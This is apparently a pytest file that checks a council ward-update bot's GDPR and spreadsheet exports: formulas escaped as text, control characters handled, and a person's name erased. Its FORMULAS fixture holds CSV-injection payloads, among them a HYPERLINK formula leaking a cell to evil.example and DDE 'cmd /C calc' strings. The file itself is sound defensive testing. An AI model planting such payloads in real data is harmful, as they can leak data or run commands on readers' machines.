"""What the council's spreadsheets get from wardbot: formulas as text, and every stored row.

Run as the DPO and IT team run them: `wardbot gdpr export` and `wardbot export` as real
processes, over rows stored as older versions of wardbot stored them (straight into storage,
control characters and all).
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from handlers.domain import NewUpdate
from storage.db import Database
from storage.updates import list_updates, record_update

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
]


def wardbot(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", *args], capture_output=True, text=True, env=env, timeout=120
    )


@pytest.fixture
def env(database_url: str) -> dict[str, str]:
    return {**os.environ, "DATABASE_URL": database_url}


async def stored(db: Database, text: str, *, n: int, name: str = "Jo Officer") -> None:
    await record_update(
        db,
        NewUpdate(
            ward_slug="sitwell",
            text=text,
            platform="slack",
            source_message_id=f"C1:{n}",
            occurred_on=date(2025, 10, 1),
            author_key="slack:U1",
            author_name=name,
            author_organisation="RMBC",
        ),
    )


async def test_subject_access_csv_writes_formulas_as_text(
    env: dict[str, str], db: Database
) -> None:
    for n, text in enumerate(FORMULAS):
        await stored(db, text, n=n, name="=cmd|' /C calc'!A0")
    done = wardbot("gdpr", "export", "--person", "slack:U1", "--format", "csv", env=env)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    texts = [r[4] for r in rows if r[0] == "update"]
    assert sorted(texts) == sorted("'" + f for f in FORMULAS)
    [person] = [r for r in rows if r[0] == "person"]
    assert person[4] == "'=cmd|' /C calc'!A0"
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


async def test_a_stored_control_character_does_not_break_the_xlsx_export(
    env: dict[str, str], db: Database, tmp_path: Path
) -> None:
    await stored(db, "Coffee morning\x07 at the library, 30 came", n=1)
    await stored(db, "Speedwatch\x1b[0m on Main Street", n=2, name="Sam\x08 Partner")
    out = tmp_path / "all.xlsx"
    done = wardbot("export", "--format", "xlsx", "--out", str(out), env=env)
    assert done.returncode == 0, done.stderr
    assert "Exported 2 updates" in done.stdout
    assert "Traceback" not in done.stderr
    sheet = load_workbook(out).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert {r[5] for r in rows[1:]} == {
        "Coffee morning at the library, 30 came",
        "Speedwatch[0m on Main Street",
    }
    assert "Sam Partner" in {r[11] for r in rows[1:]}


async def test_gdpr_erase_names_the_one_person_and_keeps_their_updates_unnamed(
    env: dict[str, str], db: Database
) -> None:
    await stored(db, "coffee morning run by Jo Officer, 12 came", n=1)
    unknown = wardbot("gdpr", "erase", "--person", "slack:UNOBODY", "--yes", env=env)
    assert unknown.returncode == 1 and "No one matching 'slack:UNOBODY'" in unknown.stderr
    done = wardbot("gdpr", "erase", "--person", "slack:U1", "--yes", env=env)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("Erased Jo Officer (slack:U1): now ")
    assert "1 updates kept without their author (1 texts had the name taken out)" in done.stdout
    [update] = await list_updates(db)
    assert update.author_key != "slack:U1" and "Jo Officer" not in update.author + update.text
